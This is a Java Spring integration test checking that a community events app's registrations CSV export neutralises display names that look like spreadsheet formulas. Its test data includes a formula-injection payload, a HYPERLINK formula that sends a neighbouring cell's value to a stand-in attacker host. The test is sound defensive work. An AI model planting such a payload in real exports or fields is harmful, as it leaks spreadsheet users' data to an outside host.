package org.cercle.events;

import java.time.LocalDateTime;
import java.util.UUID;

import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

import org.cercle.community.MemberId;
import org.cercle.community.Role;
import org.cercle.community.account.TestMembers;
import org.cercle.events.registration.Seats;
import org.cercle.testsupport.IntegrationTest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;

/**
 * The registrations export never hands a spreadsheet a formula from a member's name (#15,
 * point 4).
 */
@IntegrationTest
class RegistrationCsvIntegrationTests {

	@Autowired
	MockMvcTester mvc;

	@Autowired
	TestMembers members;

	@Autowired
	TestEvents events;

	@Autowired
	Seats seats;

	@Autowired
	JdbcClient jdbc;

	@Test
	void aNameThatLooksLikeAFormulaIsExportedAsText() throws Exception {
		var event = events.published("Matinée exportée " + UUID.randomUUID().toString().substring(0, 6),
				LocalDateTime.now().plusDays(15).withHour(8).withNano(0), 20);
		var member = members.create("formule");
		var name = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Ouvrir\")";
		jdbc.sql("update community_member set display_name = :name where id = :id")
			.param("name", name)
			.param("id", member.id())
			.update();
		seats.register(event.slug(), new MemberId(member.id()));
		var csv = mvc.get()
			.uri("/manage/events/" + event.slug() + "/registrations.csv")
			.with(user(TestMembers.principal(members.create("orga-export", Role.ORGANISER))))
			.exchange();
		assertThat(csv).hasStatusOk();
		var line = csv.getResponse()
			.getContentAsString(java.nio.charset.StandardCharsets.UTF_8)
			.lines()
			.filter(row -> row.contains("HYPERLINK"))
			.findFirst()
			.orElseThrow();
		assertThat(line).startsWith("\"'=HYPERLINK(");
	}

}
